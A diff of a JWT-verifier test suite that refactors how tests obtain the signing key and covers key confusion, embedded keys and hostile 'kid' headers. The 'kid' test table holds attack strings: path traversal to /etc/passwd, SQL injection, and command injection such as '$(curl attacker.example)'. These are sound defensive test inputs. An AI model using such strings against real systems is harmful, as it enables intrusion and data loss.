@@ -3,7 +3,7 @@
 import { createHmac, createPublicKey, generateKeyPairSync, randomBytes } from 'node:crypto';
 import { exportJWK } from 'jose';
 import { guardIo } from '../testing/io-guard';
-import { goodClaims, Kit, raw, setup, sign, signRawEs256, T0, testPolicy } from '../testing/token-kit';
+import { goodClaims, Kit, raw, sealedKey, setup, sign, signRawEs256, T0, testPolicy } from '../testing/token-kit';
 import { ReasonCode } from '@tokenwarden/jwt';
 
 let kit: Kit;
@@ -46,7 +46,7 @@ describe('2. alg must match an allowed name exactly', () => {
 
 describe('3. key confusion: our public key used as an HMAC secret', () => {
   it.each(['HS256', 'HS384', 'HS512'])('%s signed with the public key (PEM, DER, JWK) → ALG_NOT_ALLOWED', async (alg) => {
-    const pub = createPublicKey(kit.store.signingKey()!.key);
+    const pub = createPublicKey(sealedKey(kit.store.signingKey()).key);
     const secrets = [pub.export({ type: 'spki', format: 'pem' }), pub.export({ type: 'spki', format: 'der' }), JSON.stringify(await exportJWK(pub))];
     for (const secret of secrets) {
       const input = `${Buffer.from(JSON.stringify(header({ alg }))).toString('base64url')}.${Buffer.from(JSON.stringify(goodClaims(T0))).toString('base64url')}`;
@@ -83,13 +83,13 @@ describe('5. keys named by the token itself are never trusted or fetched', () =>
     await kit.check(await sign(await makeHeader(), goodClaims(T0), attacker.privateKey), ReasonCode.EMBEDDED_KEY);
   });
   it('refused even when the embedded key is ours and the signature is good (consistent, visible in the audit trail)', async () => {
-    const ours = await exportJWK(createPublicKey(kit.store.signingKey()!.key));
+    const ours = await exportJWK(createPublicKey(sealedKey(kit.store.signingKey()).key));
     await kit.check(await kit.signActive(goodClaims(T0), header({ jwk: ours })), ReasonCode.EMBEDDED_KEY);
   });
 });
 
 describe('6. kid as an attack string, and kid floods', () => {
-  const signedWithKid = (kid: unknown) => signRawEs256(JSON.stringify(header({ kid })), JSON.stringify(goodClaims(T0)), kit.store.signingKey()!.key);
+  const signedWithKid = (kid: unknown) => signRawEs256(JSON.stringify(header({ kid })), JSON.stringify(goodClaims(T0)), sealedKey(kit.store.signingKey()).key);
   it.each([
     '../../../../etc/passwd', '/dev/zero', "' OR 1=1 --", '"; DROP TABLE keys; --', '$(curl attacker.example)', '`id`',
     'http://attacker.example/key', '', ' ', '\u0000\r\n', 'k'.repeat(129), 'k'.repeat(5000), 'k\u202e',
